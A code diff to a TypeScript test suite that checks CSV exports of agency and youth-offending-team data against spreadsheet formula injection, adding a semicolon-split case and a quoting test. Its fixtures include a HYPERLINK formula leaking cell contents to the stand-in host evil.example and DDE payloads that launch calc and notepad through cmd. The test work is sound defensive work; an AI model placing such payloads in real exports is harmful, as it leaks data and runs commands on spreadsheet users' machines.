@@ -16,6 +16,8 @@ const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open report")';
 const CALC = "+cmd|' /C calc'!A0";
 const AT = '@SUM(1+1)*cmd|\' /C calc\'!A0';
 const MINUS = '-2+3+cmd|\' /C notepad\'!A0';
+/** Harmless at the start, but a spreadsheet splitting on ';' would start a cell with '=' unless the cell is quoted. */
+const SEMICOLON = "Barnet;=cmd|' /C calc'!A0";
 
 /** First characters a spreadsheet takes as the start of a formula (OWASP CSV injection). */
 const FORMULA_START = /^[=+\-@\t\r]/;
@@ -30,7 +32,7 @@ describe('exports that cannot attack a spreadsheet', () => {
     const renamed = await hub.exec(UpdateYotDocument, { input: { id: encodeGlobalId('Yot', barnet), expectedVersion: 1, name: HYPERLINK, region: CALC } }, manager);
     expect(renamed.errors).toBeUndefined();
     // Agency names reach the gaps' messages ("… is not party to a current information-sharing agreement").
-    for (const [name, to] of [['Metropolitan Police Service', AT], ['Barnet Virtual School', MINUS]]) {
+    for (const [name, to] of [['Metropolitan Police Service', AT], ['Barnet Virtual School', MINUS], ['Probation Service (London)', SEMICOLON]]) {
       const [row] = await hub.dataSource.query(`SELECT id, version FROM agency WHERE name = '${name}'`);
       const updated = await hub.exec(UpdateAgencyDocument, { input: { id: encodeGlobalId('Agency', Number(row.id)), expectedVersion: Number(row.version), name: to } });
       expect(updated.errors).toBeUndefined();
@@ -49,7 +51,7 @@ describe('exports that cannot attack a spreadsheet', () => {
       const dangerous = cells(result.stdout).filter((cell) => FORMULA_START.test(cell));
       expect(dangerous, view).toEqual([]);
     }
-  });
+  }, 180_000);
 
   it('keeps the text readable: a leading quote, then the value as it was', () => {
     const coverage = parse(run('coverage').stdout, { bom: true, columns: true }) as Record<string, string>[];
@@ -65,7 +67,24 @@ describe('exports that cannot attack a spreadsheet', () => {
     expect(row).toMatchObject({ region: `'${CALC}`, suppressed: 'false' });
     expect(Math.abs(Number(row!.cohort) - 40)).toBeLessThanOrEqual(2);
     expect(Math.abs(Number(row!.met) - 20)).toBeLessThanOrEqual(2);
-  });
+  }, 180_000);
+
+  it("quotes every text cell, so a ';'-splitting spreadsheet cannot start a cell with '='", () => {
+    for (const view of ['coverage', 'criteria', 'gaps', 'outcomes']) {
+      const lines = run(view).stdout.replace(/^\uFEFF/, '').split('\r\n').filter(Boolean);
+      // Split each record the way a ';'-locale spreadsheet reads unquoted text: on ',' outside quotes, then every
+      // unquoted field on ';'. Every text field is quoted, so no piece outside quotes may start a formula.
+      for (const line of lines) {
+        const unquoted = line.replace(/"(?:[^"]|"")*"/g, '""');
+        const pieces = unquoted.split(/[,;]/);
+        expect(pieces.filter((piece) => FORMULA_START.test(piece)), `${view}: ${line}`).toEqual([]);
+      }
+    }
+    const gaps = run('gaps').stdout;
+    expect(gaps).toContain(`"${SEMICOLON} is not party to a current information-sharing agreement."`);
+    const messages = (parse(gaps, { bom: true, columns: true }) as Record<string, string>[]).map((g) => g.message);
+    expect(messages).toContain(`${SEMICOLON} is not party to a current information-sharing agreement.`);
+  }, 180_000);
 
   it('leaves JSON exports as they are', () => {
     const rows = JSON.parse(run('coverage', '--format', 'json').stdout) as { yotCode: string; yotName: string; region: string }[];
@@ -74,6 +93,6 @@ describe('exports that cannot attack a spreadsheet', () => {
 
   it('escapes text cells only: numbers, negative ones included, stay numbers', () => {
     const text = toCsv([{ rate: -0.25, count: -3, label: '-0.25', tab: '\tx', cr: '\rx', plain: 'Knowsley', inner: 'a=b' }]);
-    expect(text.split('\r\n')[1]).toBe(`-0.25,-3,'-0.25,'\tx,"'\rx",Knowsley,a=b`);
+    expect(text.split('\r\n')[1]).toBe(`-0.25,-3,"'-0.25","'\tx","'\rx","Knowsley","a=b"`);
   });
 });
